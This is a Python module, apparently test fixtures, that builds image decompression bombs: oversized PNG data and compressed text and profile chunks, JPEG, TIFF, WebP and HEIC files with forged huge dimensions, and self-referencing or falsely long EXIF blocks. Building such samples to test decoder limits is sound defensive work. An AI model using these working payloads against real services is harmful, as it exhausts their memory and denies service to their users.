"""Files made to harm who opens them: small on the disk, huge or endless in memory."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import numpy as np
from PIL import Image


def chunk(kind: bytes, content: bytes) -> bytes:
    """Return a PNG chunk (PNG, 3rd edition, 5.3)."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(
        ">I", zlib.crc32(kind + content)
    )  # fmt: skip


def png(width: int, height: int, *before: bytes, rows: bytes = b"") -> bytes:
    """Return an RGB PNG with chunks before its pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"".join((b"\x89PNG\r\n\x1a\n", header, *before,
                     chunk(b"IDAT", rows or zlib.compress(bytes(1000))),
                     chunk(b"IEND", b"")))  # fmt: skip


@cache
def zeros(size: int) -> bytes:
    """Return so many zeros, deflated: a thousandth of it."""
    pack = zlib.compressobj(9)
    return b"".join([*(pack.compress(bytes(1 << 20)) for _ in range(size >> 20)), pack.flush()])


def large_png() -> bytes:
    """Return 50000 x 50000 pixels: 7.5 GB decoded, and truly there."""
    return png(50_000, 50_000, rows=zeros(256 << 20))


def text_bomb() -> bytes:
    """Return a PNG whose compressed texts are 400 MB each."""
    text = b"Comment\0\1\0\0\0" + zeros(400 << 20)
    return png(64, 64, *(chunk(b"iTXt", text) for _ in range(3)))


def profile_bomb() -> bytes:
    """Return a PNG whose colour profile is 400 MB."""
    return png(64, 64, chunk(b"iCCP", b"profile\0\0" + zeros(400 << 20)))


def as_jpeg(**how: object) -> bytes:
    """Return a small colour JPEG."""
    stream = io.BytesIO()
    noise = np.random.default_rng(5).integers(0, 255, (64, 64, 3), np.uint8)
    Image.fromarray(noise).save(stream, "JPEG", **how)
    return stream.getvalue()


def large_jpeg() -> bytes:
    """Return a JPEG that claims 65500 x 65500 pixels (ITU-T T.81, B.2.2: SOF0)."""
    plain = as_jpeg()
    place = plain.index(b"\xff\xc0")
    return plain[: place + 5] + struct.pack(">HH", 65_500, 65_500) + plain[place + 9 :]


def exif_loop() -> bytes:
    """Return a JPEG whose EXIF block points at itself, over and over."""
    # One directory: ExifOffset (0x8769) leads to the directory itself, as does the next one.
    ifd = struct.pack("<HHHIII", 1, 0x8769, 4, 1, 8, 8)
    block = b"Exif\0\0II*\0\x08\0\0\0" + ifd
    return with_app1(as_jpeg(), block)


def exif_claims_gigabytes() -> bytes:
    """Return a JPEG whose EXIF time claims to be 4 GB long."""
    ifd = struct.pack("<HHHIII", 1, 0x9003, 2, 0xFFFFFFF0, 8, 0)
    return with_app1(as_jpeg(), b"Exif\0\0II*\0\x08\0\0\0" + ifd)


def with_app1(plain: bytes, block: bytes) -> bytes:
    """Return a JPEG with a block of application data (ITU-T T.81, B.2.4.6) at its begin."""
    return plain[:2] + b"\xff\xe1" + struct.pack(">H", len(block) + 2) + block + plain[2:]


def large_tiff() -> bytes:
    """Return a TIFF that claims 60000 x 60000 pixels and holds none."""
    stream = io.BytesIO()
    Image.new("RGB", (8, 8), (90, 20, 20)).save(stream, "TIFF")
    data = stream.getvalue()
    for tag in (256, 257):  # ImageWidth, ImageLength (TIFF 6.0)
        for kind, form in ((4, "<HHII"), (3, "<HHIHH")):
            old = struct.pack(form, tag, kind, 1, 8, *([0] if kind == 3 else []))
            data = data.replace(old, struct.pack("<HHII", tag, 4, 1, 60_000))
    return data


def large_webp() -> bytes:
    """Return an extended WebP that claims a canvas of 16384 x 16384 (RFC 9649, 2.7)."""
    canvas = struct.pack("<I", 0) + 2 * struct.pack("<I", 16_383)[:3]
    stream = io.BytesIO()
    Image.new("RGB", (8, 8), (90, 20, 20)).save(stream, "WEBP", lossless=True)
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + canvas + stream.getvalue()[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def large_heic() -> bytes:
    """Return a HEIC whose picture claims 30000 x 30000 pixels (ISO/IEC 23008-12, ispe)."""
    import pillow_heif

    stream = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 64), (90, 20, 20))).save(stream)
    data = stream.getvalue()
    place = data.index(b"ispe") + 8
    return data[:place] + struct.pack(">II", 30_000, 30_000) + data[place + 8 :]


#: Each by what it is called.
BOMBS: dict[str, Callable[[], bytes]] = {
    "png": large_png,
    "png-text": text_bomb,
    "png-profile": profile_bomb,
    "jpeg": large_jpeg,
    "jpeg-exif-loop": exif_loop,
    "jpeg-exif-length": exif_claims_gigabytes,
    "tiff": large_tiff,
    "webp": large_webp,
    "heic": large_heic,
}


def saved(image: Image.Image, kind: str, **how: Any) -> bytes:
    """Return a picture as a file of a kind."""
    stream = io.BytesIO()
    if kind == "HEIC":
        import pillow_heif

        pillow_heif.from_pillow(image).save(stream, **how)
    else:
        image.save(stream, kind, **how)
    return stream.getvalue()
